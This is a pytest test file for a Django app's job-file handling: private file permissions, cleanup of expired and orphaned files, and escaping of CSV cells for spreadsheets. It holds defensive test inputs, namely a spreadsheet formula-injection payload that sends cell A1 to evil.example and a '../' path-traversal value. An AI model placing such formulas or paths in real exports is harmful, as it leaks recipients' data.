"""Job files: private on disk, removed once expired or orphaned; CSV safe to open in a
spreadsheet."""

import os
import time
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.utils import timezone

from core import files, spreadsheet
from core.models import Job, JobStatus


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    settings.FILE_RETENTION_HOURS = 24
    return settings.MEDIA_ROOT


@pytest.fixture
def loose_umask():
    old = os.umask(0)
    yield
    os.umask(old)


def test_files_are_private_whatever_the_umask(media, loose_umask):
    path = files.media_path("registry-sync/deep/x.csv")
    with files.open_private(path, "w") as out:
        out.write("x")
    assert path.stat().st_mode & 0o777 == 0o600
    for directory in (media, media / "registry-sync", media / "registry-sync" / "deep"):
        assert directory.stat().st_mode & 0o777 == 0o700
    path.chmod(0o644)  # an older file is made private again when written
    with files.open_private(path, "a") as out:
        out.write("y")
    assert path.stat().st_mode & 0o777 == 0o600 and path.read_text() == "xy"
    with pytest.raises(ValueError):
        files.media_path("../outside.csv")


def write(media, relative: str, age: timedelta = timedelta()):
    path = files.media_path(relative)
    with files.open_private(path, "w") as out:
        out.write("data")
    then = time.time() - age.total_seconds()
    os.utime(path, (then, then))
    return path


@pytest.mark.django_db
def test_cleanup_removes_expired_and_orphan_files_only(media, province_officer):
    now = timezone.now()

    def job(status, finished_hours_ago=None, **params):
        finished = None if finished_hours_ago is None else now - timedelta(hours=finished_hours_ago)
        return Job.objects.create(
            kind="registry_sync",
            status=status,
            finished_at=finished,
            params=params,
            created_by=province_officer,
        )

    old = job(JobStatus.SUCCEEDED, 25)
    recent = job(JobStatus.FAILED, 23)
    running = job(JobStatus.RUNNING)
    job(JobStatus.SUCCEEDED, 1, path="registry-sync/upload-of-another-name.csv")
    week = timedelta(days=7)
    expired = [
        write(media, f"registry-sync/{old.pk}.csv", week),
        write(media, f"registry-sync/{old.pk}.report.ndjson", week),
        write(media, f"exports/{old.pk}.csv", week),
    ]
    kept = [
        write(media, f"registry-sync/{recent.pk}.json", week),
        write(media, f"exports/{running.pk}.csv", week),
        write(media, "registry-sync/upload-of-another-name.csv", week),  # named by its job
        write(media, "registry-sync/01a2e8b2-0000-7000-8000-000000000000.csv"),  # just written
    ]
    orphans = [
        write(media, "registry-sync/01a2e8b2-0000-7000-8000-000000000001.csv", timedelta(hours=2)),
        write(media, "exports/stray.csv", timedelta(hours=2)),
    ]

    call_command("cleanup_files")

    assert [p for p in expired + orphans if p.exists()] == []
    assert all(p.exists() for p in kept)
    assert files.cleanup() == files.Cleaned(expired=0, orphans=0)  # nothing more to do
    assert files.expired(old) and not files.expired(recent) and not files.expired(running)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Xem")',
        ),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Đặng Thị Hoà", "Đặng Thị Hoà"),
        ("a=b", "a=b"),
        ("1984-02-29", "1984-02-29"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_spreadsheet_cells_are_text(value, cell):
    assert spreadsheet.safe_cell(value) == cell
